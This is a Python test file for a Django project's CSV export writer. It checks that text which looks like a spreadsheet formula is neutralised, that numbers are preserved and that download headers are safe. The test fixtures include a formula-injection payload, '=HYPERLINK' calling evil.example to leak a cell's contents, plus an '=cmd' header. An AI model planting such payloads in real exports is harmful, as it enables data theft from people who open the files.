"""core.csv: the one CSV writer; text cells cannot run as formulas, numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret

import core.csv as core_csv
from core.csv import csv_cell, csv_response, csv_streaming_response, csv_text
from members.billing.services.invoices import invoice_issue
from tests.auth import sign_in
from tests.factories import OrganisationFactory, RoleFactory, UserFactory, make_member

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "=", "@"])
def test_text_starting_like_a_formula_is_neutralised(text):
    assert csv_cell(text) == "'" + text
    assert _rows(csv_text(["a"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize("text", ["Example Corp", "PO 4711", "a=b", "1-2", " =1", ""])
def test_ordinary_text_is_written_as_is(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [(-1500, "-1500"), (250000, "250000"), (Decimal("-12.50"), "-12.50"), (-0.5, "-0.5"), (0, "0")],
)
def test_numbers_stay_numbers_negative_ones_included(value, written):
    assert csv_cell(value) == value
    assert _rows(csv_text(["n"], [[value]]))[1] == [written]


def test_dates_none_and_booleans_are_plain_text():
    row = [dt.date(2026, 6, 1), dt.datetime(2026, 6, 1, 12, tzinfo=dt.UTC), None, True]
    assert _rows(csv_text(["d", "t", "n", "b"], [row]))[1] == [
        "2026-06-01",
        "2026-06-01T12:00:00+00:00",
        "",
        "True",
    ]


def test_header_cells_are_neutralised_too():
    assert _rows(csv_text(["=cmd"], []))[0] == ["'=cmd"]


def test_responses_are_downloads_with_the_same_bytes():
    rows = [[HYPERLINK, -5]]
    whole = csv_response(filename="x.csv", header=["name", "amount"], rows=rows)
    streamed = csv_streaming_response(filename="x.csv", header=["name", "amount"], rows=iter(rows))
    assert whole["Content-Type"] == streamed["Content-Type"] == "text/csv; charset=utf-8"
    assert whole["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert b"".join(streamed.streaming_content) == whole.content
    assert _rows(whole.content.decode())[1] == ["'" + HYPERLINK, "-5"]


def test_filename_cannot_break_the_header():
    response = csv_response(filename='a"; b\r\n.csv', header=[], rows=[])
    assert response["Content-Disposition"] == 'attachment; filename="ab.csv"'


# --- every export goes through the one writer ------------------------------------------------


@pytest.fixture
def cells(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Every value the one writer is handed (the real writer still runs)."""
    seen: list[Any] = []
    real = core_csv.csv_cell

    def spy(value: Any) -> Any:
        seen.append(value)
        return real(value)

    monkeypatch.setattr(core_csv, "csv_cell", spy)
    return seen


def _privileged(client, role: str) -> None:
    user = UserFactory()
    TOTP.activate(user, generate_totp_secret())
    RoleFactory(user=user, role=role)
    sign_in(client, user)


@pytest.mark.django_db
def test_dues_export_uses_the_one_writer(client, clock, cells):
    sponsor = make_member(organisation=OrganisationFactory(legal_name=HYPERLINK), class_code="silver")
    invoice = invoice_issue(membership=sponsor)
    _privileged(client, "treasurer")
    response = client.get("/manage/billing/export.csv")
    assert HYPERLINK in cells and invoice.amount_minor in cells
    assert _rows(response.content.decode())[1][1] == "'" + HYPERLINK


@pytest.mark.django_db
def test_members_export_uses_the_one_writer(client, clock, cells):
    make_member(user=UserFactory(full_name=HYPERLINK))
    _privileged(client, "membership_committee")
    response = client.get("/manage/members/export.csv")
    body = b"".join(response.streaming_content).decode()
    assert HYPERLINK in cells
    assert _rows(body)[1][1] == "'" + HYPERLINK
